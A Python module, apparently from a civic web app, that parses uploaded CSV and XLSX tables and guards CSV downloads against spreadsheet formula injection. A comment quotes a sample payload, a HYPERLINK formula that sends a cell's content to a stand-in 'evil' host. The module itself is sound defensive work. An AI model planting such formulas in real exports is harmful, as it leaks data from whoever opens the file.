"""Tables people upload: the cells of a CSV or XLSX file; and cells of tables people download, made safe
for spreadsheet programs.

CSV is read as UTF-8 (with or without a byte-order mark), else as GB18030, which is how spreadsheet
programs set to Chinese save it. XLSX: the first sheet (openpyxl, read-only, values not formulas).
"""

from __future__ import annotations

import csv
import io
from typing import Any

from wecity.core.errors import ValidationFailed

# A text a spreadsheet program would take for a formula (OWASP's list): a citizen's description
# `=HYPERLINK("http://evil/?"&A1, "…")` in an export would run when a supervisor opens it.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(value: Any) -> Any:
    """A cell for a CSV download: a text that would start a formula gets a leading apostrophe, which
    spreadsheet programs show as text (numbers and everything else unchanged)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def read_table(content: bytes, filename: str, *, max_rows: int, code: str) -> list[list[Any]]:
    """The cells of a CSV or XLSX file, header row first: at most `max_rows` + 2 rows are read (the header,
    and one row more than allowed, so that the caller can tell the file is too long). `code` is the
    error code of the caller's domain."""
    if filename.lower().endswith(".xlsx") or content[:2] == b"PK":
        from openpyxl import load_workbook

        try:
            book = load_workbook(io.BytesIO(content), read_only=True, data_only=True)
        except Exception:  # openpyxl raises many kinds for a damaged file
            raise ValidationFailed("the file is not a readable XLSX workbook", message_zh="文件不是可读取的 XLSX 工作簿",
                                   code=code) from None
        try:
            sheet = book.worksheets[0]
            return [list(row) for _, row in zip(range(max_rows + 2), sheet.iter_rows(values_only=True), strict=False)]
        finally:
            book.close()
    for encoding in ("utf-8-sig", "gb18030"):
        try:
            text = content.decode(encoding)
            break
        except UnicodeDecodeError:
            continue
    else:
        raise ValidationFailed("the CSV file is neither UTF-8 nor GB18030 text", message_zh="CSV 文件编码无法识别（应为 UTF-8 或 GB18030）",
                               code=code)
    try:
        return [row for _, row in zip(range(max_rows + 2), csv.reader(io.StringIO(text)), strict=False)]
    except csv.Error as exc:  # a cell over the csv module's limit (128 KiB), a NUL byte: not a table we read
        en, zh = _csv_problem(str(exc))
        raise ValidationFailed(f"the CSV file cannot be read as a table: {en}",
                               message_zh=f"CSV 文件无法按表格读取：{zh}", code=code) from None


def _csv_problem(reason: str) -> tuple[str, str]:
    """Why the csv module could not read a file, in English and Chinese (its own text is English only)."""
    kib = csv.field_size_limit() // 1024
    if "field limit" in reason:
        return f"a cell is longer than {kib} KiB", f"有单元格超过 {kib} KiB"
    if "NUL" in reason:
        return "it holds a NUL byte (is it a text file?)", "文件中含有空字符（NUL），可能不是文本文件"
    if "new-line" in reason:
        return "a cell holds a line break without being in double quotes", "有单元格含换行符但未用双引号括起"
    return f"a cell holds at most {kib} KiB, in UTF-8 or GB18030 text", f"单元格最多 {kib} KiB，须为 UTF-8 或 GB18030 文本"
